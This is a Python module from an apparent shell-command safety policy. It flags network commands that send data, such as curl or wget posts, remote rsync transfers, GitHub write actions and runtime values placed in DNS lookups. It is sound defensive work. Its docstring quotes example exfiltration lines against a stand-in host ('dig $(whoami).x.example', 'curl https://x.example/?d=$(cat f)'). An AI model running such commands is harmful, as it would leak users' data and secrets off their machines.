"""The network: sending data (``curl -d``, ``wget --post-data``, ``http POST``), raw connections and
remote shells, file transfers, acting on GitHub, and values computed at run time put into a name
lookup or a request (``dig $(whoami).x.example``, ``curl https://x.example/?d=$(cat f)``): the
classic way out for data when only DNS leaves the machine."""

from __future__ import annotations

import re

from tools.shell_policy.walk import Call
from tools.shell_policy.words import MODERATE, SAFE, Verdict, Word, bad, canonical, opts, shorten
from tools.shell_policy.writes import keeps_mode

_SAFE_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})
LOOKUPS = frozenset(
    """dig nslookup host drill kdig delv ping ping6 traceroute traceroute6 tracepath mtr arping fping whois nmap
    resolvectl getent""".split()
)
_REQUESTS = frozenset({"curl", "wget", "http", "https", "xh", "xhs", "aria2c"})  # the rest ask anyway
_COMPUTED = re.compile(r"\$\(|`|<\(")


def sends_runtime(c: Call, head: Word) -> Verdict:
    """A value computed at run time in a name lookup (any ``$``), or a command's output (``$(...)``,
    backticks) in what a network program sends."""
    prog = canonical(c.name)
    if prog in LOOKUPS:
        for w in c.args:
            if w.text is None and not w.procsub:
                return bad(f"puts a value computed at run time into a network lookup ({c.name} {w.show})")
    elif prog in _REQUESTS:
        for w in c.args:
            if w.text is None and _COMPUTED.search(w.raw):
                return bad(f"sends a value computed at run time over the network ({c.name} {w.show})")
    return SAFE


def _curl(c: Call) -> Verdict:
    o = opts(
        c.args, "AbcCdDeEFHKmoQrTtuUwxXyYzP",
        ("--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "--json", "--form",
         "--form-string", "--upload-file", "--request", "--output", "--output-dir", "--header", "--user",
         "--user-agent", "--referer", "--cookie", "--cookie-jar", "--dump-header", "--config", "--max-time",
         "--connect-timeout", "--retry", "--proxy", "--write-out", "--url", "--cacert", "--cert", "--key",
         "--resolve", "--mail-rcpt", "--mail-from", "--trace", "--trace-ascii", "--stderr", "--range"),
    )
    for method in o.values("-X", "--request"):
        if method.text is None or method.text.upper() not in _SAFE_METHODS:
            return bad(f"sends data over the network (curl -X {method.show})")
    senders = ["-F", "-T", "--json", "--form", "--form-string", "--upload-file", "--mail-rcpt"]
    if not o.has("-G", "--get"):
        senders += ["-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii"]
    for name, _ in o.flags:
        if name in senders:
            return bad(f"sends data over the network (curl {name})")
    if o.has("-K", "--config"):
        return bad("reads its options from a file it can't see (curl -K)")
    targets = o.values("-o", "--output", "--output-dir", "-D", "--dump-header", "-c", "--cookie-jar", "--trace",
                       "--trace-ascii", "--stderr")
    return c.targets_outside(targets, "curl -o")


def _wget(c: Call) -> Verdict:
    o = opts(
        c.args, "OPoaeUitTwQlADR",
        ("--output-document", "--directory-prefix", "--output-file", "--append-output", "--post-data",
         "--post-file", "--method", "--body-data", "--body-file", "--header", "--user-agent", "--execute",
         "--input-file", "--tries", "--timeout", "--user", "--password", "--level"),
    )
    for name, value in o.flags:
        if name in ("--post-data", "--post-file", "--body-data", "--body-file"):
            return bad(f"sends data over the network (wget {name})")
        if name == "--method" and (value is None or (value.text or "").upper() not in _SAFE_METHODS):
            return bad(f"sends data over the network (wget --method {value.show if value else ''})")
        if name in ("-e", "--execute") and (value is None or re.search(r"post|method|body", value.text or "?", re.I)):
            return bad("sends data over the network (wget -e)")
    targets = o.values("-O", "--output-document", "-P", "--directory-prefix", "-o", "--output-file", "-a",
                       "--append-output")
    return c.targets_outside(targets, "wget -O")


def _httpie(c: Call) -> Verdict:
    o = opts(c.args, "aApo", ("--auth", "--auth-type", "--print", "--output", "--session", "--verify", "--cert",
                                "--proxy", "--cert-key"))
    if o.has("--form", "-f", "--raw", "--multipart"):
        return bad(f"sends data over the network ({c.name} --form)")
    words = o.texts()
    if words and re.fullmatch(r"[A-Z]+", words[0]):
        if words[0] not in _SAFE_METHODS:
            return bad(f"sends data over the network ({c.name} {words[0]})")
        words = words[1:]
    for item in words[1:]:
        match = re.search(r"==|:=|=|:|@", item)
        if match and match.group(0) in (":=", "=", "@"):
            return bad(f"sends data over the network ({c.name} {shorten(item)})")
    return c.targets_outside(o.values("-o", "--output"), f"{c.name} -o")




def _is_remote(path: str) -> bool:
    return path.startswith("rsync://") or bool(re.match(r"[^/]*[^/\\]:", path))


def _rsync(c: Call) -> Verdict:
    o = opts(c.args, "efTB", ("--rsh", "--exclude", "--include", "--filter", "--files-from", "--exclude-from",
                                "--include-from", "--backup-dir", "--suffix", "--partial-dir", "--temp-dir",
                                "--log-file", "--password-file", "--port", "--bwlimit", "--chmod", "--chown",
                                "--timeout", "--link-dest", "--compare-dest", "--copy-dest"))
    for name, _ in o.flags:
        if name.startswith("--delete") or name in ("--remove-source-files", "--del"):
            return bad(f"deletes files ({c.name} {name})")
    if any(_is_remote(w.text or "") for w in o.pos):
        return bad(f"transfers files to or from a remote host ({c.name})")
    verdict = c.targets_outside(o.pos[-1:] if len(o.pos) > 1 else [], c.name)
    return keeps_mode(c, o.pos[:-1]) if verdict == MODERATE else verdict




_GH_WRITES = frozenset(
    """create delete merge close reopen comment edit review ready transfer archive unarchive rename sync set
    upload run rerun cancel enable disable lock unlock pin unpin fork""".split()
)


def _gh(c: Call) -> Verdict:
    o = opts(c.args, "RXfFHqt", ("--repo", "--method", "--field", "--raw-field", "--header", "--input", "--jq"))
    words = o.texts()
    if words[:1] == ["api"]:
        methods = [(m.text or "").upper() for m in o.values("-X", "--method")]
        if any(m not in _SAFE_METHODS for m in methods) or o.has("-f", "-F", "--field", "--raw-field", "--input"):
            return bad("sends data over the network (gh api)")
        return MODERATE
    if words[:2] in (["release", "create"], ["release", "upload"]):
        return bad(f"publishes a release (gh {' '.join(words[:2])})")
    if len(words) >= 2 and words[1] in _GH_WRITES:
        return bad(f"acts on GitHub for everyone to see (gh {' '.join(words[:2])})")
    return MODERATE
